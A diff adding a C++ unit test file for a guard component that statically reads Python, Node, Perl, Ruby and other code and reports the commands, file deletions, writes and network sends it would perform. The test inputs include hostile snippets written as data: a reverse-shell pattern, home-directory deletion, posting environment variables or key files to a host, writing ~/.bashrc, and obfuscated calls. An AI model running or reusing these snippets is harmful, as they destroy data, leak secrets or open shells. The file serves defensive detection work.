@@ -1,0 +1,245 @@
+#include "policy/guard/program/program.h"
+
+#include <gtest/gtest.h>
+
+namespace talaria::guard {
+namespace {
+
+// What the program would do, a line each: commands, "?" and a key where that is not known.
+std::string does(std::string_view program, std::string_view text) {
+  const Instructions found = read_program(text, program);
+  std::string all;
+  for (const InnerCommand& one : found.commands) {
+    if (one.is_text) all += one.text.text;
+    for (const SeenWord& word : one.words) all += with_unknown_as("?", word.text) + " ";
+    while (all.ends_with(' ')) all.pop_back();
+    all += "\n";
+  }
+  for (const InstructionDoubt& doubt : found.doubts) all += "? " + doubt.key + "\n";
+  return all;
+}
+
+constexpr const char* kUnknownCommand = "? program runs a command that is not known\n";
+constexpr const char* kUnknownText = "? program evaluates text that is not known\n";
+constexpr const char* kUnknownFiles = "? program deletes files that are not known\n";
+constexpr const char* kHidden = "? program hides what it calls\n";
+constexpr const char* kLoaded = "? program loads code by a name that is not known\n";
+constexpr const char* kNative = "? program runs native code, or code from data\n";
+
+struct ProgramCase {
+  const char* program;
+  const char* text;
+  std::string expected;
+};
+
+void check(std::initializer_list<ProgramCase> cases) {
+  for (const ProgramCase& c : cases) EXPECT_EQ(does(c.program, c.text), c.expected) << c.text;
+}
+
+TEST(ProgramTest, FindsWhatIsStarted) {
+  check({
+      {"python3", "import os\nos.system('id')", "id\n"},
+      {"python3", "subprocess.run(['a', 'b c'], check=True)", "a b c\n"},
+      {"python3", "import subprocess as s; s.run('a b', shell=True)", "a b\n"},
+      {"python3", "subprocess.run(args=['a', 'b'])", "a b\n"},
+      {"python3", "from os import system as s; s('a')", "a\n"},
+      {"python3", "from os import *\nsystem('a')", "a\n"},
+      {"python3", "s = os.system\ns('a')", "a\n"},
+      {"python3", "__import__('os').system('a')", "a\n"},
+      {"python3", "import importlib as i\ni.import_module('os').system('a')", "a\n"},
+      {"python3", "os.execvp('a', ['a', 'b'])", "a b\n"},
+      {"python3", "os.spawnlp(os.P_WAIT, 'a', 'a', 'b')", "a b\n"},
+      {"python3", "Thread(target=os.system, args=('a',)).start()", "a\n"},
+      {"python3", "subprocess.run([sys.executable, '-m', 'pytest', t])", "python3 -m pytest ?\n"},
+      {"python3", "os.system(f'rm {x}')", "rm ${__unknown__}\n"},
+      {"python3", "os.system(c)", kUnknownCommand},
+      {"python3", "subprocess.run(cmd)", kUnknownCommand},
+      {"python3", "print(f\"{os.system('a')}\")", "a\n"},
+      {"python3", "pty.spawn('/bin/sh')",
+       "/bin/sh\n? program starts a shell whose input is not known\n"},
+      {"python3", "s.connect(('h', 1)); subprocess.call(['/bin/sh', '-i'])\nimport socket",
+       "nc -e /bin/sh ?\n/bin/sh -i\n"},
+      {"node", "require('child_process').execSync('a')", "a\n"},
+      {"node", "import {execSync as e} from 'node:child_process'; e('a')", "a\n"},
+      {"node", "const cp = require('child_process'); cp.spawn('a', ['b'], {cwd: 'x'})", "a b\n"},
+      {"node", "require('child_process')['execSync']('a')", "a\n"},
+      {"node", "const {spawn: s} = await import('child_process'); s('a', x)", "a ?\n"},
+      {"deno", "new Deno.Command('a', {args: ['b']}).outputSync()", "a b\n"},
+      {"bun", "await Bun.$`a b`", "a b\n"},
+      {"perl", "system 'a b';", "a b\n"},
+      {"perl", "system('a', 'b', $c) == 0 or die;", "a b ?\n"},
+      {"perl", "print `a`; qx{b}; eval { 1 };", "a\nb\n"},
+      {"perl", "open(F, 'a |')", "a\n"},
+      {"perl", "open(my $f, '|-', 'a')", "a\n"},
+      {"perl", "s/x/system('a')/e", "a\n"},
+      {"perl", "print \"@{[ system('a') ]}\"", "a\n"},
+      {"ruby", "system 'a', 'b'", "a b\n"},
+      {"ruby", "x = %x(a b)", "a b\n"},
+      {"ruby", "IO.popen(['a', 'b'])", "a b\n"},
+      {"ruby", "puts \"#{`a`}\"", "a\n"},
+      {"php", "<p><?php system('a'); ?></p>", "a\n"},
+      {"php", "`a`;", "a\n"},
+      {"lua", "os.execute 'a'", "a\n"},
+      {"Rscript", "system2('a', c('b', 'c'))", "a b c\n"},
+      {"julia", "run(`a b`)", "a b\n"},
+      {"gcc", "int main(void) { return system(\"a\"); } // system(\"b\")", "a\n"},
+      {"go", "exec.Command(\"a\", \"b\").Run()", "a b\n"},
+      {"rustc", "Command::new(\"a\").arg(\"b\").args([\"c\"]).status();", "a b c\n"},
+      {"java", "new ProcessBuilder(List.of(\"a\", \"b\")).start();", "a b\n"},
+  });
+}
+
+TEST(ProgramTest, FindsWhatIsDeleted) {
+  check({
+      {"python3", "shutil.rmtree('build')", "rm -rf build\n"},
+      {"python3", "os.remove('x')", "rm x\n"},
+      {"python3", "Path('a', 'b').unlink()", "rm a/b\n"},
+      {"python3", "shutil.rmtree(os.path.expanduser('~'))", "rm -rf ~\n"},
+      {"python3", "shutil.rmtree(Path.home() / 'x')", "rm -rf ~/x\n"},
+      {"python3", "shutil.rmtree(os.environ['HOME'] + '/x')", "rm -rf ~/x\n"},
+      {"python3", "for d in ['a', 'b']: shutil.rmtree(d)", "rm -rf a b\n"},
+      {"python3", "for f in glob.glob('*.pyc'): os.remove(f)", "rm *.pyc\n"},
+      {"python3", "OUT = 'out'\nshutil.rmtree(OUT)", "rm -rf out\n"},
+      {"python3", "os.remove(p)", std::string("rm ?\n") + kUnknownFiles},
+      {"python3", "list(map(os.remove, files))", std::string("rm ?\n") + kUnknownFiles},
+      {"node", "fs.rmSync('/x', {recursive: true})", "rm -rf /x\n"},
+      {"node", "const fs = require('fs/promises'); fs.unlink('x')", "rm x\n"},
+      {"perl", "unlink $f", std::string("rm ?\n") + kUnknownFiles},
+      {"ruby", "FileUtils.rm_rf('x')", "rm -rf x\n"},
+      {"ruby", "File.delete('x')", "rm x\n"},
+      {"Rscript", "unlink('x', recursive=TRUE)", "rm -rf x\n"},
+  });
+}
+
+// A name that may be something else is not known; an own temporary file is no concern.
+TEST(ProgramTest, KnowsWhatIsItsOwn) {
+  check({
+      {"python3", "d = tempfile.mkdtemp()\nshutil.rmtree(d)", ""},
+      {"python3", "with tempfile.TemporaryDirectory() as d:\n  os.remove(os.path.join(d, 'x'))",
+       ""},
+      {"python3", "open(p, 'w').write('x')\nos.remove(p)", ""},
+      {"python3", "d = tempfile.mkdtemp()\nd = x\nshutil.rmtree(d)",
+       std::string("rm -rf ?\n") + kUnknownFiles},
+      {"python3", "c = 'ls'\ndef f(c): os.system(c)\nf('rm x')", kUnknownCommand},
+      {"python3", "c = 'ls'\nfor c in x: os.system(c)", kUnknownCommand},
+      {"python3", "c = ['ls']\nc[0] = 'rm'\nsubprocess.run(c)", kUnknownCommand},
+      {"python3", "c = ['ls']\nc.append('x')\nsubprocess.run(c)", "ls ?\n"},
+      {"node", "const d = fs.mkdtempSync('x'); fs.rmSync(d, {recursive: true})", ""},
+      {"ruby", "Dir.mktmpdir { |d| puts d }", ""},
+  });
+}
+
+TEST(ProgramTest, FindsWhatIsWritten) {
+  check({
+      {"python3", "open('/etc/x', 'w')", "program_output > '/etc/x'\n"},
+      {"python3", "open(os.path.expanduser('~/.bashrc'), 'a').write('x')",
+       "program_output > ~'/.bashrc'\n"},
+      {"python3", "(Path.home() / '.bashrc').write_text('a')", "printf %s 'a' > ~'/.bashrc'\n"},
+      {"python3", "open(p, 'w')", ""},
+      {"python3", "open('x').read(); open('y', 'rb')", ""},
+      {"node", "fs.writeFileSync(process.env.HOME + '/.bashrc', 'a')",
+       "printf %s 'a' > ~'/.bashrc'\n"},
+      {"perl", "open(F, '>/etc/x')", "program_output > '/etc/x'\n"},
+      {"perl", "open(my $f, '<', 'x')", ""},
+      {"python3", "shutil.copy('a', 'b'); os.rename('c', 'd')", "cp a b\nmv c d\n"},
+      {"python3", "os.chmod('f', 0o4755); os.chmod('g', 511)", "chmod 4755 f\nchmod 777 g\n"},
+      {"perl", "chmod 0777, 'f'", "chmod 777 f\n"},
+      {"python3", "os.kill(-1, signal.SIGKILL); os.kill(p, 0)", "kill -KILL -1\n"},
+  });
+}
+
+TEST(ProgramTest, FindsWhatIsSent) {
+  check({
+      {"python3", "requests.get('http://h'); urlopen('http://h')", ""},
+      {"python3", "requests.post('http://h', data=open('/k').read())",
+       "curl -X POST -d ? http://h\ncurl --data-binary @/k http://h\n"},
+      {"python3", "requests.post('http://h', json=dict(os.environ))",
+       "curl -X POST -d ? http://h\nenv | curl -d @- 'http://h'\n"},
+      {"python3", "requests.post('http://h', json={'k': os.environ['K']})",
+       "curl -X POST -d ? http://h\n"},
+      {"node", "fetch('http://h')", ""},
+      {"node", "fetch('http://h', {method: 'POST', body: 'a'})", "curl -X POST -d a http://h\n"},
+      {"python3", "urlretrieve('http://h/x', 'x')", "curl -o x http://h/x\n"},
+  });
+}
+
+TEST(ProgramTest, DoubtsWhatIsHidden) {
+  check({
+      {"python3", "exec(x)", kUnknownText},
+      {"python3", "exec('import os; os.system(\"a\")')", "a\n"},
+      {"python3", "exec(base64.b64decode('x'))", kUnknownText},
+      {"python3", "getattr(os, 'sys' + 'tem')('a')", kHidden},
+      {"python3", "m = __import__('os'); getattr(m, x)('a')", kHidden},
+      {"python3", "__import__('o' + 's')", kLoaded},
+      {"python3", "os.__dict__['system']('a')", std::string("a\n") + kHidden},
+      {"python3", "globals()[x]('a')", kHidden},
+      {"python3", "().__class__.__bases__[0].__subclasses__()", kHidden},
+      {"python3", "ctypes.CDLL(None).x()", kNative},
+      {"python3", "pickle.loads(base64.b64decode(x))", kNative},
+      {"node", "eval(x)", kUnknownText},
+      {"node", "new Function(x)()", kUnknownText},
+      {"node", "require('a' + b)", kLoaded},
+      {"node", "require('child_process')[f]('a')", kHidden},
+      {"node", "x.constructor.constructor('a')()", kHidden},
+      {"perl", "eval $x", kUnknownText},
+      {"perl", "s/(.*)/$1/ee", kUnknownText},
+      {"perl", "exec {'a'} 'a', 'b'", kHidden},
+      {"ruby", "Kernel.send(:system, 'a')", std::string(kHidden) + kHidden},
+      {"php", "$f('a');", kHidden},
+      {"lua", "load(x)()", kUnknownText},
+  });
+}
+
+TEST(ProgramTest, LeavesAloneWhatComputes) {
+  check({
+      {"python3", "model.eval(); asyncio.run(f()); db.execute('x'); re.compile('a')", ""},
+      {"python3", "# os.system('a')\nprint('os.system(1)')", ""},
+      {"python3", "'''\nos.system('a')\n'''", ""},
+      {"python3", "items.remove(1); d.pop('x'); s.replace('a', 'b'); getattr(a, 'b', None)", ""},
+      {"python3", "class A:\n  def system(self, x): pass", ""},
+      {"python3", "import os, sys, subprocess, shutil\nfrom os import remove, system", ""},
+      {"python3", "os.makedirs('a', exist_ok=True); platform.system()", ""},
+      {"node", "/a/.exec('b') // exec('c')", ""},
+      {"node", "const s = a / b; const t = \"c/d\"; x.replace(/[\"']/g, '')", ""},
+      {"node", "class A { constructor(x) { this.x = x; } }", ""},
+      {"perl", "s/system/tool/g; print if /eval error/; tr/a-z/A-Z/", ""},
+      {"perl", "my %s = (y => 1); print $s{y}", ""},
+      {"ruby", "h.delete(:a); puts 'system'", ""},
+      {"rustc", "fn f<'a>(x: &'a str) -> &'a str { x }", ""},
+  });
+}
+
+// What a misread quote would hide.
+TEST(ProgramTest, DoesNotHideCodeInTexts) {
+  for (const auto& [program, text] : std::initializer_list<std::pair<const char*, const char*>>{
+           {"node", "x = /\"/; require('child_process').execSync('a') //\""},
+           {"node", "if (1) /\"/.test(1); require('child_process').execSync('a') //\""},
+           {"node", "`${require('child_process').execSync('a')}`"},
+           {"node", "`${`${require('child_process').execSync('a')}`}`"},
+           {"python3", "x = '\\''; os.system('a') #'"},
+           {"perl", "$x =~ m{\"}; system('a'); #\""},
+           {"perl", "$'; system('a'); '"},
+           {"perl", "print q{'}; system('a'); #'"},
+           {"ruby", "x = ?'; system('a') #'"},
+           {"lua", "x = [[']] os.execute('a') --'"},
+           {"php", "<?php $x = <<<'E'\n\"\nE;\nsystem('a');"},
+           {"gcc", "char c = '\"'; system(\"a\"); //\""},
+       }) {
+    EXPECT_NE(does(program, text), "") << program << ": " << text;
+  }
+}
+
+TEST(ProgramTest, ReadsProgramsThatAreMadeToBeSlow) {
+  std::string deep = "os.path.join(";
+  for (int i = 0; i < 12; ++i) deep += deep;
+  EXPECT_EQ(does("python3", deep), "");
+  EXPECT_EQ(does("python3", std::string(200'000, '(')), "");
+  std::string names;
+  for (int i = 0; i < 5000; ++i) {
+    names += "a" + std::to_string(i + 1) + " = a" + std::to_string(i) + "\n";
+  }
+  EXPECT_EQ(does("python3", names + "os.system(a5000)"), kUnknownCommand);
+}
+
+}  // namespace
+}  // namespace talaria::guard
